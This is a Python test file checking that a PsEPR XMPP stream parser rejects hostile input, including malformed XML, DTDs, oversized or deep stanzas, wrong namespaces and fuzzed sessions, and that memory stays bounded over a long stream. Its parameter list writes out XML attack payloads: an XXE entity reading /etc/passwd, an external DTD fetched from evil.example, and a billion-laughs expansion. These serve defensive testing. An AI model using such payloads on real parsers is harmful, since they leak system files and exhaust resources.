"""The PsEPR client stream under hostile input (gateways/psepr/inbound.py).

Every attack (malformed XML, DTDs and entities, oversized or deep stanzas,
wrong namespaces, garbage and mutated sessions) ends the stream with a
:class:`StreamError` of the right condition, and a long stream does not grow
the parser.
"""

from __future__ import annotations

import gc

import psutil
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from dsmt.event import RECORD, Address, Sequencer
from gateways.psepr import inbound, stream, xml
from gateways.psepr.inbound import END, StreamParser
from gateways.psepr.stream import StreamError, StreamHeader

from tests.gateways.stream_samples import HEADER, SESSION, feed_in_chunks, stream_error


# ---------------------------------------------------------------- hostile input

LOL = b'<!ENTITY lol0 "lol">' + b"".join(
    b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))


@pytest.mark.parametrize("data,condition", [
    (HEADER + b"<message><</message>", "not-well-formed"),
    (b"<stream:stream xmlns:stream='http://etherx.jabber.org/streams' xmlns='jabber:client'"
     b" a='1' a='2'>", "not-well-formed"),
    (HEADER + b"<message><body>x</message>", "not-well-formed"),
    (HEADER + b"<message>\xff\xfe</message>", "not-well-formed"),
    (HEADER + b"<message>&xxe;</message>", "not-well-formed"),
    (HEADER + stream.STREAM_END + b"<message/>", "not-well-formed"),
    (b"<!DOCTYPE stream:stream>" + HEADER, "restricted-xml"),
    (b"<!DOCTYPE lolz [" + LOL + b"]>" + HEADER + b"<message>&lol9;</message>",
     "restricted-xml"),
    (b'<!DOCTYPE s [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + HEADER
     + b"<message>&xxe;</message>", "restricted-xml"),
    (b'<!DOCTYPE s [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>' + HEADER,
     "restricted-xml"),
    (HEADER + b"<message><?php evil() ?></message>", "restricted-xml"),
    (HEADER + b"<message><!-- x --></message>", "restricted-xml"),
    (HEADER + b"<message>" + b"x" * (xml.MAX_STANZA + 2 * inbound.SLICE), "policy-violation"),
    (HEADER + b"<message>" + b"<a>" * 64, "policy-violation"),
    (b"<stream:stream xmlns:stream='http://etherx.jabber.org/streams'"
     b" xmlns='jabber:server'>", "invalid-namespace"),
    (b"<stream:stream xmlns:stream='urn:wrong' xmlns='jabber:client'>", "invalid-namespace"),
    (b"<stream xmlns='jabber:client'>", "invalid-namespace"),
    (HEADER + b"<event xmlns='http://psepr.org/xs/event'/>", "unsupported-stanza-type"),
    (HEADER + b"<foo/>", "unsupported-stanza-type"),
    (HEADER + b"hello<message/>", "bad-format"),
])
def test_hostile_input_ends_the_stream_with_the_right_condition(data, condition):
    assert stream_error(data).condition == condition


@pytest.mark.parametrize("data,condition", [
    (b"<>  ", "not-well-formed"),  # found by the long fuzz run (tests/fuzz/test_fuzz_stream.py)
    (b"<<a>", "not-well-formed"),
    (b"<a>a", "invalid-namespace"),
    (b"<a><", "invalid-namespace"),
])
def test_a_first_feed_of_four_bytes_or_fewer_is_judged_as_the_same_bytes_cut_otherwise(
        data, condition):
    # lxml parses the first 4 bytes it is fed only at its next feed(): unless the
    # parser forces it, these waited for more input whole and were refused when cut.
    assert stream_error(data).condition == condition
    for cut in range(1, len(data)):
        with pytest.raises(StreamError) as caught:
            feed_in_chunks(data, [cut])
        assert caught.value.condition == condition


def test_a_billion_laughs_is_refused_at_once_whatever_the_chunking():
    data = b"<!DOCTYPE lolz [" + LOL + b"]>" + HEADER + b"<message>&lol9;</message>"
    with pytest.raises(StreamError) as caught:
        feed_in_chunks(data, range(1, len(data)))
    assert caught.value.condition == "restricted-xml"


def test_a_stanza_at_the_cap_passes_and_one_beyond_it_does_not():
    body = lambda n: b"<message><body>" + b"x" * n + b"</body></message>"  # noqa: E731
    at_cap = body(xml.MAX_STANZA - len(body(0)))
    assert len(at_cap) == xml.MAX_STANZA
    items = StreamParser().feed(HEADER + at_cap + at_cap)
    assert len(items) == 3
    over = body(xml.MAX_STANZA + 2 * inbound.SLICE)
    assert stream_error(HEADER + at_cap + over).condition == "policy-violation"


def test_a_smaller_stanza_cap_is_honoured_byte_by_byte():
    parser = StreamParser(max_stanza=4096)
    parser.feed(HEADER)
    with pytest.raises(StreamError) as caught:
        for _ in range(10_000):
            parser.feed(b"<message>" if _ == 0 else b"y")
    assert caught.value.condition == "policy-violation"


def test_an_endless_header_is_refused_by_the_cap():
    header = b"<stream:stream xmlns:stream='http://etherx.jabber.org/streams' a='"
    assert stream_error(header + b"x" * (xml.MAX_STANZA + 2 * inbound.SLICE)).condition == (
        "policy-violation")


def test_nesting_is_capped_with_the_stream_element_counted():
    nested = lambda n: b"<a>" * n + b"</a>" * n  # noqa: E731
    assert len(StreamParser().feed(HEADER + b"<message>" + nested(62) + b"</message>")) == 2
    assert stream_error(HEADER + b"<message>" + nested(63) + b"</message>").condition == (
        "policy-violation")


def test_a_dead_parser_keeps_raising_its_error():
    parser = StreamParser()
    with pytest.raises(StreamError) as first:
        parser.feed(HEADER + b"<foo/>")
    with pytest.raises(StreamError) as again:
        parser.feed(b"<message/>")
    assert again.value is first.value


def test_whitespace_keepalives_between_stanzas_are_accepted():
    parser = StreamParser()
    parser.feed(HEADER)
    for _ in range(2 * xml.MAX_STANZA // 1024):
        assert parser.feed(b" " * 1024) == []
    assert len(parser.feed(b"<presence/>")) == 1


def _mutate(data: bytes, mutations) -> bytes:
    for pos, cut, insert in mutations:
        pos = min(pos, len(data))
        data = data[:pos] + insert + data[pos + cut:]
    return data


MUTATIONS = st.lists(st.tuples(st.integers(0, len(SESSION)), st.integers(0, 4),
                               st.binary(max_size=6) | st.sampled_from(
                                   [b"<", b">", b"&", b"<!DOCTYPE x>", b"<?x?>", b"]]>",
                                    b"<a>" * 70, b"\x00", b"\xc3", b"</stream:stream>"])),
                     min_size=1, max_size=5)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=300) | MUTATIONS.map(lambda ms: _mutate(SESSION, ms)),
       st.lists(st.integers(0, 400), max_size=8))
def test_garbage_and_mutated_streams_raise_only_stream_error(data, cuts):
    try:
        items = feed_in_chunks(data, [c for c in cuts if c <= len(data)])
    except StreamError as exc:
        assert exc.condition in stream.CONDITIONS
        return
    for item in items:
        assert isinstance(item, (StreamHeader, etree._Element)) or item is END


# ---------------------------------------------------------------- memory


def test_a_long_stream_does_not_grow_the_parser():
    stanza = b"<message to='psepr_registry@r'><x xmlns='jabber:x:expire' seconds='60'/></message>"
    batch = stanza * 500
    parser = StreamParser()
    parser.feed(HEADER)
    count = 0

    def run(batches: int) -> None:
        nonlocal count
        for _ in range(batches):
            items = parser.feed(batch)
            count += len(items)
            del items

    run(20)  # warm up: lxml's name dictionary, allocator pools
    gc.collect()
    rss = psutil.Process().memory_info().rss
    run(180)
    gc.collect()
    grown = psutil.Process().memory_info().rss - rss
    assert count == 100_000
    # Keeping 90k stanzas (or a tree of the stream) would take tens of MB.
    assert grown < 8 << 20, f"RSS grew by {grown} bytes over 90k stanzas"


def test_the_deepest_encodable_payloads_still_fit_in_a_stream():
    typed: list = []
    for _ in range(xml.MAX_RECORD_DEPTH - 1):
        typed = [typed]
    raw = ("<p>" * (xml.MAX_DEPTH - 3) + "</p>" * (xml.MAX_DEPTH - 3)).replace(
        "<p>", "<payload xmlns='urn:deep'>", 1)[:-4] + "</payload>"
    sender = Sequencer(Address("s"))
    events = [sender.make("/a/", RECORD, typed), sender.make("/a/", "urn:deep", {"xml": raw})]
    parser = StreamParser()
    parser.feed(HEADER)
    for event in events:
        (message,) = parser.feed(stream.message_stanza(event, to="psepr_registry@r"))
        assert stream.message_event(message) == xml.event_from_bytes(xml.event_to_bytes(event))
    too_deep = raw.replace("<p>", "<p><p>", 1).replace("</p>", "</p></p>", 1)
    with pytest.raises(xml.XmlError, match="deeper"):
        stream.message_stanza(sender.make("/a/", "urn:deep", {"xml": too_deep}), to="r")
